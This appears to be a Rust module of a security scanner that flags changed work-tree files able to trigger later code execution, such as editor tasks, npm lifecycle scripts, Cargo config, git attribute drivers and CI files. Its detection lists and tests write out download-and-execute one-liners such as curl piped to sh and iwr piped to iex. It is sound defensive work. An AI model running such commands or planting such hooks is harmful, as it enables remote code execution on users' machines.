//! Files in the work tree that make a tool run code later: direnv's `.envrc`, editor task
//! and settings files, package manifests' lifecycle scripts and package-manager configs,
//! `.gitattributes` drivers, `.gitmodules` update commands, build and CI files.
//!
//! Each is judged only if it was created or changed during the run. A file whose format
//! cannot be parsed is reported whole: the tool that reads it may be more lenient than the
//! parser here (VS Code reads JSON with comments; so does this, but not every dialect).

use std::fs::{self, FileType};
use std::path::Path;

use serde_json::Value;

use super::shell::{shell_quote, shell_quote_bytes};
use super::{gitconfig, read_regular, Scan, Unread};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Envrc,
    VsTasks,
    VsLaunch,
    VsSettings,
    CodeWorkspace,
    /// The whole file is a finding (`setup.py`, `build.rs`, an IDE run configuration).
    Whole(&'static str),
    PackageJson,
    Pyproject,
    CargoToml,
    CargoConfig,
    Npmrc,
    Yarnrc,
    Gitattributes,
    Gitmodules,
    BuildFile,
}

const BUILD_FILES: &[&str] = &[
    "Makefile",
    "makefile",
    "GNUmakefile",
    "CMakeLists.txt",
    "Dockerfile",
    "Containerfile",
    ".gitlab-ci.yml",
    "Justfile",
    "justfile",
    "meson.build",
    "build.gradle",
    "build.gradle.kts",
    ".pre-commit-config.yaml",
];

fn kind(dir: &Path, name: &str, symlink: bool) -> Option<Kind> {
    let parent = dir.file_name().and_then(|n| n.to_str()).unwrap_or("");
    let grand = dir
        .parent()
        .and_then(|d| d.file_name())
        .and_then(|n| n.to_str())
        .unwrap_or("");
    Some(match (grand, parent, name) {
        (_, _, ".envrc") => Kind::Envrc,
        (_, ".vscode", "tasks.json") => Kind::VsTasks,
        (_, ".vscode", "launch.json") => Kind::VsLaunch,
        (_, ".vscode", "settings.json") => Kind::VsSettings,
        (_, _, n) if n.ends_with(".code-workspace") => Kind::CodeWorkspace,
        (_, ".idea", "workspace.xml") | (".idea", "runConfigurations" | "tools", _) => {
            Kind::Whole("editor-task")
        }
        (_, ".run", n) if n.ends_with(".run.xml") => Kind::Whole("editor-task"),
        // An editor's settings directory replaced by a symlink: the editor follows it.
        (_, _, ".vscode" | ".idea" | ".run") if symlink => Kind::Whole("editor-task"),
        (_, _, ".cargo") if symlink => Kind::Whole("package-config"),
        (_, _, ".github") if symlink => Kind::BuildFile,
        (_, _, "package.json") => Kind::PackageJson,
        (_, _, "setup.py" | "build.rs" | "binding.gyp") => Kind::Whole("package-script"),
        (_, _, "pyproject.toml") => Kind::Pyproject,
        (_, _, "Cargo.toml") => Kind::CargoToml,
        (_, ".cargo", "config" | "config.toml") => Kind::CargoConfig,
        (_, _, ".npmrc") => Kind::Npmrc,
        (_, _, ".yarnrc" | ".yarnrc.yml") => Kind::Yarnrc,
        (_, _, ".pnpmfile.cjs" | ".pnpmfile.mjs") => Kind::Whole("package-config"),
        (_, _, ".gitattributes") => Kind::Gitattributes,
        (_, _, ".gitmodules") => Kind::Gitmodules,
        (".github", "workflows", _) => Kind::BuildFile,
        (_, _, n) if BUILD_FILES.contains(&n) || n.starts_with("Dockerfile.") => Kind::BuildFile,
        _ => return None,
    })
}

/// Is a file at `path` one this module judges (by its name and directory)?
pub(crate) fn of_interest(path: &Path) -> bool {
    let (Some(dir), Some(name)) = (path.parent(), path.file_name().and_then(|n| n.to_str())) else {
        return false;
    };
    kind(dir, name, false).is_some()
}

fn vector(k: Kind) -> &'static str {
    match k {
        Kind::Envrc => "envrc",
        Kind::VsTasks | Kind::VsLaunch => "editor-task",
        Kind::VsSettings | Kind::CodeWorkspace => "editor-settings",
        Kind::Whole(v) => v,
        Kind::PackageJson | Kind::Pyproject | Kind::CargoToml => "package-script",
        Kind::CargoConfig | Kind::Npmrc | Kind::Yarnrc => "package-config",
        Kind::Gitattributes => "gitattributes",
        Kind::Gitmodules => "gitmodules",
        Kind::BuildFile => "build-file",
    }
}

/// Judges one non-directory entry of the work tree.
pub(crate) fn check(s: &mut Scan, dir: &Path, name: &str, path: &Path, ft: &FileType) {
    let Some(k) = kind(dir, name, ft.is_symlink()) else {
        return;
    };
    let Ok(md) = fs::symlink_metadata(path) else {
        return;
    };
    if !s.changed(&md) {
        return;
    }
    if ft.is_symlink() {
        s.push_symlink(vector(k), path);
        return;
    }
    let buf = match read_regular(path) {
        Ok((md, buf)) if s.changed(&md) => buf,
        Ok(_) | Err(Unread::NotRegular) => return,
        Err(Unread::TooLarge) => {
            let q = shell_quote(path);
            s.push(
                "scan-incomplete",
                path,
                "too-large",
                b"larger than 64 MiB, not read",
                format!("ls -l {q}"),
            );
            return;
        }
    };
    let mut found = Found {
        s,
        path,
        vector: vector(k),
    };
    match k {
        Kind::Envrc | Kind::Whole(_) => found.whole(&buf),
        Kind::BuildFile if fetch_and_run(&buf).is_some() => {
            // Not an edit like any other: a step that downloads code and runs it.
            let (n, line) = fetch_and_run(&buf).unwrap_or_default();
            found.vector = "build-fetch-exec";
            found.push(&format!("line {n}"), line.trim().as_bytes());
        }
        Kind::BuildFile => {
            let created = md.created().is_ok_and(|t| t >= found.s.since);
            let what: &[u8] = if created {
                b"created during the run"
            } else {
                b"changed during the run"
            };
            found.push("", what);
        }
        Kind::VsTasks => json_items(&mut found, &buf, &["tasks"], "tasks"),
        Kind::VsLaunch => json_items(&mut found, &buf, &["configurations"], "configurations"),
        Kind::VsSettings => settings(&mut found, &buf),
        Kind::CodeWorkspace => code_workspace(&mut found, &buf),
        Kind::PackageJson => package_json(&mut found, &buf),
        Kind::Pyproject => toml_keys(&mut found, &buf, |k, _| k == "build-system.backend-path"),
        Kind::CargoToml => toml_keys(&mut found, &buf, |k, v| k == "package.build" && v != "false"),
        Kind::CargoConfig => toml_keys(&mut found, &buf, |k, _| cargo_config_runs(k)),
        Kind::Npmrc => npmrc(&mut found, &buf),
        Kind::Yarnrc => yarnrc(&mut found, &buf),
        Kind::Gitattributes => attributes(&mut found, &buf),
        Kind::Gitmodules => gitmodules(&mut found, &buf),
    }
}

/// Something that fetches over the network, and something that runs what it fetched, on one
/// line (`curl … | sh`, `wget -O- … | bash`, `bash <(curl …)`, `iwr … | iex`, `eval "$(curl …)"`,
/// `curl -o x … && chmod +x x`): the first such line of a build or CI file, numbered from 1.
fn fetch_and_run(buf: &[u8]) -> Option<(usize, String)> {
    const FETCH: &[&str] = &[
        "curl ",
        "wget ",
        "invoke-webrequest",
        "iwr ",
        "invoke-restmethod",
        "irm ",
        "/dev/tcp/",
        "fetch(",
    ];
    const RUN: &[&str] = &[
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| zsh",
        "| sudo sh",
        "| sudo bash",
        "| python",
        "|python",
        "| perl",
        "| ruby",
        "| node",
        "| iex",
        "|iex",
        "sh <(",
        "bash <(",
        "source <(",
        ". <(",
        "eval ",
        "eval(",
        "chmod +x",
        "| sh -",
        "| bash -s",
    ];
    String::from_utf8_lossy(buf)
        .lines()
        .enumerate()
        .find(|(_, l)| {
            let l = l.to_ascii_lowercase();
            FETCH.iter().any(|f| l.contains(f)) && RUN.iter().any(|r| l.contains(r))
        })
        .map(|(i, l)| (i + 1, l.to_string()))
}

/// A gitdir's `info/attributes`: read like a `.gitattributes`.
pub(crate) fn gitattributes(s: &mut Scan, path: &Path) {
    let Ok((md, buf)) = read_regular(path) else { return };
    if s.changed(&md) {
        attributes(
            &mut Found {
                s,
                path,
                vector: "gitattributes",
            },
            &buf,
        );
    }
}

/// Findings in one file.
struct Found<'a> {
    s: &'a mut Scan,
    path: &'a Path,
    vector: &'static str,
}

impl Found<'_> {
    fn push(&mut self, key: &str, value: &[u8]) {
        let inspect = format!("cat -v {}", shell_quote(self.path));
        self.s.push(self.vector, self.path, key, value, inspect);
    }

    /// The whole file, previewed by its first line that is not blank or a shebang.
    fn whole(&mut self, buf: &[u8]) {
        let first = buf
            .split(|&c| c == b'\n')
            .find(|l| !l.iter().all(u8::is_ascii_whitespace) && !l.starts_with(b"#!"))
            .unwrap_or_default();
        self.push("", first);
    }

    /// A file the parser here rejects: reported whole, since its tool may read it anyway.
    fn unparsed(&mut self, buf: &[u8]) {
        self.whole(buf);
    }
}

// ----- JSON (VS Code, npm) -----

/// JSON with comments and trailing commas (VS Code's dialect) made plain JSON.
fn strip_jsonc(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    let mut in_str = false;
    while i < b.len() {
        let c = b[i];
        if in_str {
            out.push(c);
            if c == b'\\' && i + 1 < b.len() {
                out.push(b[i + 1]);
                i += 1;
            } else if c == b'"' {
                in_str = false;
            }
            i += 1;
            continue;
        }
        match (c, b.get(i + 1)) {
            (b'"', _) => {
                in_str = true;
                out.push(c);
            }
            (b'/', Some(b'/')) => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            (b'/', Some(b'*')) => {
                i += 2;
                while i < b.len() && !(b[i] == b'*' && b.get(i + 1) == Some(&b'/')) {
                    i += 1;
                }
                i += 2;
                out.push(b' ');
                continue;
            }
            (b',', _) => {
                // Drop a comma that only whitespace separates from a closing bracket.
                let next = b[i + 1..].iter().find(|c| !c.is_ascii_whitespace());
                if !matches!(next, Some(b'}' | b']')) {
                    out.push(c);
                }
            }
            _ => out.push(c),
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn parse_jsonc(buf: &[u8]) -> Option<Value> {
    serde_json::from_str(&strip_jsonc(&String::from_utf8_lossy(buf))).ok()
}

fn compact(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).unwrap_or_default()
}

/// Each element of the array at `path` (`tasks`, `configurations`) is one finding, keyed
/// `name[i]`: any task or launch configuration runs a program of the file's choosing.
fn json_items(f: &mut Found, buf: &[u8], path: &[&str], name: &str) {
    let Some(root) = parse_jsonc(buf) else {
        return f.unparsed(buf);
    };
    items_at(f, &root, path, name);
}

fn items_at(f: &mut Found, root: &Value, path: &[&str], name: &str) {
    let mut v = root;
    for p in path {
        match v.get(p) {
            Some(next) => v = next,
            None => return,
        }
    }
    if let Some(items) = v.as_array() {
        for (i, item) in items.iter().enumerate() {
            f.push(&format!("{name}[{i}]"), &compact(item));
        }
    }
}

/// Setting names whose value is a program, its arguments or its environment.
fn setting_runs(key: &str) -> bool {
    const ENDINGS: &[&str] = &[
        "path",
        "executable",
        "command",
        "interpreter",
        "runtime",
        "shell",
        "shellargs",
        "cmd",
        "program",
        "home",
        "alternatetools",
        "wrapper",
        "env",
    ];
    let k = key.to_ascii_lowercase();
    let last = k.rsplit('.').next().unwrap_or("");
    k.starts_with("terminal.integrated.")
        || k.starts_with("task.")
        || k.starts_with("security.workspace.trust")
        || ENDINGS.iter().any(|e| last.ends_with(e))
}

/// Dotted names of the leaves of a settings object (`"[python]": {…}` nests).
fn leaves<'v>(prefix: &str, v: &'v Value, depth: usize, out: &mut Vec<(String, &'v Value)>) {
    match v.as_object() {
        Some(map) if depth < 8 => {
            for (k, child) in map {
                let name = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                leaves(&name, child, depth + 1, out);
            }
        }
        _ => out.push((prefix.to_string(), v)),
    }
}

fn settings_in(f: &mut Found, obj: &Value, prefix: &str) {
    let mut all = Vec::new();
    leaves(prefix, obj, 0, &mut all);
    for (k, v) in all {
        let bare = k.strip_prefix(prefix).unwrap_or(&k).trim_start_matches('.');
        if setting_runs(bare) {
            f.push(&k, &compact(v));
        }
    }
}

fn settings(f: &mut Found, buf: &[u8]) {
    let Some(root) = parse_jsonc(buf) else {
        return f.unparsed(buf);
    };
    settings_in(f, &root, "");
}

/// A `.code-workspace` carries settings, tasks and launch configurations in one file.
fn code_workspace(f: &mut Found, buf: &[u8]) {
    let Some(root) = parse_jsonc(buf) else {
        return f.unparsed(buf);
    };
    if let Some(s) = root.get("settings") {
        settings_in(f, s, "settings");
    }
    f.vector = "editor-task";
    items_at(f, &root, &["tasks", "tasks"], "tasks.tasks");
    items_at(f, &root, &["launch", "configurations"], "launch.configurations");
}

/// npm scripts that run without being named: on `npm install` (of this package or in it),
/// `npm ci`, `npm pack`, `npm publish`, `npm version`.
const LIFECYCLE: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preuninstall",
    "uninstall",
    "postuninstall",
    "prepublish",
    "preprepare",
    "prepare",
    "postprepare",
    "prepublishOnly",
    "prepack",
    "postpack",
    "publish",
    "postpublish",
    "preversion",
    "version",
    "postversion",
    "dependencies",
];

fn package_json(f: &mut Found, buf: &[u8]) {
    // npm reads strict JSON: one it cannot parse runs nothing, but report it all the same.
    let Ok(root) = serde_json::from_slice::<Value>(buf) else {
        return f.unparsed(buf);
    };
    if let Some(scripts) = root.get("scripts").and_then(Value::as_object) {
        for (name, cmd) in scripts {
            if LIFECYCLE.contains(&name.as_str()) {
                let v = cmd
                    .as_str()
                    .map_or_else(|| compact(cmd), |s| s.as_bytes().to_vec());
                f.push(&format!("scripts.{name}"), &v);
            }
        }
    }
    // `gypfile: true` makes npm run `node-gyp rebuild` on install.
    if root.get("gypfile").is_some_and(|v| v == &Value::Bool(true)) {
        f.push("gypfile", b"true");
    }
}

// ----- TOML (pyproject, Cargo) -----

fn toml_keys(f: &mut Found, buf: &[u8], pick: impl Fn(&str, &str) -> bool) {
    let Ok(table) = String::from_utf8_lossy(buf).parse::<toml::Table>() else {
        return f.unparsed(buf);
    };
    let mut stack: Vec<(String, &toml::Value)> = table.iter().map(|(k, v)| (k.clone(), v)).collect();
    while let Some((key, v)) = stack.pop() {
        if let (Some(t), false) = (v.as_table(), pick(&key, "")) {
            stack.extend(t.iter().map(|(k, v)| (format!("{key}.{k}"), v)));
            continue;
        }
        let shown = v.as_str().map_or_else(|| v.to_string(), str::to_string);
        if pick(&key, &shown) {
            f.push(&key, shown.as_bytes());
        }
    }
}

/// Cargo config keys that name a program cargo runs (or flags and environment for it).
fn cargo_config_runs(key: &str) -> bool {
    let parts: Vec<&str> = key.split('.').collect();
    match parts.as_slice() {
        ["build", k] => {
            matches!(
                *k,
                "rustc"
                    | "rustc-wrapper"
                    | "rustc-workspace-wrapper"
                    | "rustdoc"
                    | "rustflags"
                    | "rustdocflags"
            )
        }
        ["target", .., k] | ["host", .., k] => matches!(*k, "runner" | "linker" | "rustflags"),
        ["env", ..] | ["credential-alias", ..] => true,
        ["registry", k] => matches!(*k, "credential-provider" | "global-credential-providers"),
        ["registries", _, "credential-provider"] => true,
        _ => false,
    }
}

// ----- line formats -----

fn npmrc(f: &mut Found, buf: &[u8]) {
    const KEYS: &[&str] = &[
        "script-shell",
        "node-options",
        "shell",
        "editor",
        "browser",
        "git",
        "onload-script",
        "init-module",
        "viewer",
    ];
    for line in String::from_utf8_lossy(buf).lines() {
        let Some((k, v)) = line.split_once('=') else {
            continue;
        };
        let k = k.trim().to_ascii_lowercase();
        if KEYS.contains(&k.as_str()) {
            f.push(&k, v.trim().as_bytes());
        }
    }
}

fn yarnrc(f: &mut Found, buf: &[u8]) {
    for line in String::from_utf8_lossy(buf).lines() {
        let t = line.trim_start().trim_start_matches('"');
        for key in ["yarnPath", "yarn-path", "plugins"] {
            if t.starts_with(key)
                && t[key.len()..]
                    .trim_start_matches('"')
                    .trim_start()
                    .starts_with([':', ' '])
            {
                f.push(key, line.trim().as_bytes());
            }
        }
    }
}

/// `filter=`, `diff=` and `merge=` attributes naming a driver that is neither git-lfs nor
/// built into git: the driver's command lives in some git config (reported separately when
/// it is in the workspace; the attribute is reported because it may be in the user's).
fn attributes(f: &mut Found, buf: &[u8]) {
    const BUILTIN_DIFF: &[&str] = &[
        "ada", "bash", "bibtex", "cpp", "csharp", "css", "dts", "elixir", "fortran", "fountain", "golang",
        "html", "java", "kotlin", "markdown", "matlab", "objc", "pascal", "perl", "php", "python", "ruby",
        "rust", "scheme", "tex",
    ];
    for line in String::from_utf8_lossy(buf).lines() {
        let t = line.trim_start();
        if t.starts_with('#') {
            continue;
        }
        for attr in t.split_ascii_whitespace().skip(1) {
            let Some((name, driver)) = attr.split_once('=') else {
                continue;
            };
            let benign = driver == "lfs"
                || match name {
                    "diff" => BUILTIN_DIFF.contains(&driver),
                    "merge" => matches!(driver, "text" | "binary" | "union"),
                    "filter" => false,
                    _ => true,
                };
            if !benign {
                f.push(attr, line.as_bytes());
            }
        }
    }
}

/// `.gitmodules`: an `update = !command` (git ignores it there since 2.24, older git ran it)
/// and a url git would take as an option or an `ext::` command.
fn gitmodules(f: &mut Found, buf: &[u8]) {
    let parsed = gitconfig::parse(buf);
    let q = shell_quote(f.path);
    for e in &parsed.entries {
        let v = e.value.as_deref().unwrap_or_default();
        let risky = e.key.starts_with(b"submodule.")
            && ((e.key.ends_with(b".update") && gitconfig::runs_code(&e.key, e.value.as_deref()))
                || (e.key.ends_with(b".url")
                    && (v.starts_with(b"-") || v.windows(5).any(|w| w == b"ext::"))));
        if risky {
            let inspect = format!("git config --file {q} --unset-all {}", shell_quote_bytes(&e.key));
            f.s.push("gitmodules", f.path, &e.key, v, inspect);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn download_and_run_lines_in_build_files() {
        for (text, line) in [
            (
                "on: push\nsteps:\n  - run: curl -fsSL https://x.example/i.sh | sh\n",
                3,
            ),
            ("RUN wget -qO- http://x | bash -s -- --yes\n", 1),
            ("install:\n\tbash <(curl -s https://x)\n", 2),
            ("- run: eval \"$(curl -s https://x)\"\n", 1),
            (
                "RUN curl -o /usr/local/bin/t https://x && chmod +x /usr/local/bin/t\n",
                1,
            ),
            ("- pwsh: iwr https://x/i.ps1 | iex\n", 1),
        ] {
            assert_eq!(
                fetch_and_run(text.as_bytes()).map(|(n, _)| n),
                Some(line),
                "{text}"
            );
        }
        // What CI files say every day: fetching without running it, running without fetching.
        for text in [
            "- run: curl -fsS https://api.example/health\n",
            "- run: sh ./scripts/test.sh | tee log\n",
            "RUN pip install -r requirements.txt && python -m pytest\n",
            "- uses: actions/checkout@v4\n- run: cargo test\n",
        ] {
            assert_eq!(fetch_and_run(text.as_bytes()), None, "{text}");
        }
    }

    #[test]
    fn jsonc_comments_and_trailing_commas() {
        let t = "{\n // c\n \"a\": \"x // not a comment\", /* b */ \"b\": [1,2,],\n}";
        let v: Value = serde_json::from_str(&strip_jsonc(t)).unwrap();
        assert_eq!(v["a"], "x // not a comment");
        assert_eq!(v["b"], serde_json::json!([1, 2]));
    }

    #[test]
    fn settings_that_run_programs() {
        for k in [
            "python.defaultInterpreterPath",
            "git.path",
            "terminal.integrated.shell.linux",
            "rust-analyzer.server.extraEnv",
        ] {
            assert!(setting_runs(k), "{k}");
        }
        for k in [
            "editor.formatOnSave",
            "files.exclude",
            "python.analysis.extraPaths",
        ] {
            assert!(!setting_runs(k), "{k}");
        }
    }

    #[test]
    fn cargo_config_keys() {
        assert!(cargo_config_runs("target.x86_64-unknown-linux-gnu.runner"));
        assert!(cargo_config_runs("build.rustc-wrapper"));
        assert!(!cargo_config_runs("build.jobs"));
    }
}
